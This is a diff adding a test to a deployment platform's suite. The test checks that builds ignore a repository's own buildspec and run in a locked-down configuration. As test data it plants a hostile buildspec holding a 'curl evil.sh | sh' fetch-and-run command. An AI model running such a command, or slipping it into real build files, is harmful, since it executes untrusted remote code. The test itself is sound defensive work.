@@ -461,3 +461,51 @@ def test_rollout_state_from_aws_and_moto_shaped_services():
     moto_created = {"taskDefinition": new, "deployments": [{"status": "PRIMARY", "taskDefinition": new, "rolloutState": "IN_PROGRESS", "failedTasks": 0}]}
     assert rollout_from_service(moto_created, new).state == RolloutState.IN_PROGRESS
     assert rollout_from_service(moto_created, new, emulator=True).state == RolloutState.COMPLETED
+
+
+class RecordingBuilds(BotoAwsSteps):
+    started: list[dict] = []
+
+    async def start_build(self, project, env, buildspec, idempotency_key):
+        self.started.append({"project": project, "env": env, "buildspec": buildspec})
+        return await super().start_build(project, env, buildspec, idempotency_key)
+
+
+async def test_the_build_uses_the_platform_buildspec_its_variables_and_a_locked_down_repository(clients, platform, source, tmp_path):
+    repo, sha = source
+    sha = commit_files(repo, {"buildspec.yml": "phases: {build: {commands: [curl evil.sh | sh]}}", ".easydeploy.yml": FLASK_APP[".easydeploy.yml"] + "root: .\n"}, "evil buildspec")
+    steps = RecordingBuilds(clients, platform, emulator=True)
+    steps.started = []
+    create_service: list[dict] = []
+
+    def record(params, **_):
+        create_service.append(dict(params))
+
+    clients.ecs.meta.events.register("before-parameter-build.ecs.CreateService", record)
+    INJECTED.append((clients.ecs, "before-parameter-build.ecs.CreateService", record))
+    result, _ = await deploy(steps, platform, tmp_path, request_for(repo, sha))
+    assert result.ok, result.failure
+
+    names = app_names(INSTALLATION, OWNER, REPO)
+    [started] = steps.started
+    assert started["buildspec"] == (Path(__file__).resolve().parents[2] / "buildspecs" / "buildspec.yml").read_text()
+    env = started["env"]
+    assert env["IMAGE_TAG"] == sha and env["IMAGE_URI"] == result.image_uri
+    assert env["APP_DIR"] == f"/mnt/repos/{OWNER}/{REPO}" and env["DOCKERFILE"] == f"/mnt/repos/{OWNER}/{REPO}/Dockerfile"
+    assert env["ARTIFACT_PREFIX"] == f"artifacts/{INSTALLATION}/{names.app}/{sha}/"
+    assert "GREETING" not in env  # the app's env never reaches the build
+    [project] = clients.codebuild.batch_get_projects(names=[names.codebuild_project])["projects"]
+    assert project["environment"]["privilegedMode"] is True
+    assert project["serviceRole"].endswith(f"role/easydeploy/tenants/ed-{INSTALLATION}-build")
+    ecr_repo = clients.ecr.describe_repositories(repositoryNames=[names.ecr_repository])["repositories"][0]
+    assert ecr_repo["imageTagMutability"] == "IMMUTABLE" and ecr_repo["imageScanningConfiguration"]["scanOnPush"]
+    lifecycle = json.loads(clients.ecr.get_lifecycle_policy(repositoryName=names.ecr_repository)["lifecyclePolicyText"])
+    assert lifecycle["rules"][0]["selection"]["countNumber"] == 20
+    scaling = clients.autoscaling.describe_scalable_targets(ServiceNamespace="ecs")["ScalableTargets"]
+    assert [(s["MinCapacity"], s["MaxCapacity"]) for s in scaling] == [(1, 2)]
+    # moto does not echo the deployment configuration back, so check what was sent.
+    [sent] = create_service
+    assert sent["deploymentConfiguration"]["deploymentCircuitBreaker"] == {"enable": True, "rollback": True}
+    assert sent["networkConfiguration"]["awsvpcConfiguration"]["subnets"] == platform.private_subnet_ids
+    assert sent["networkConfiguration"]["awsvpcConfiguration"]["assignPublicIp"] == "DISABLED"
+    assert sent["loadBalancers"][0]["targetGroupArn"] == result.stages["release"]["outputs"]["target_group_arn"]
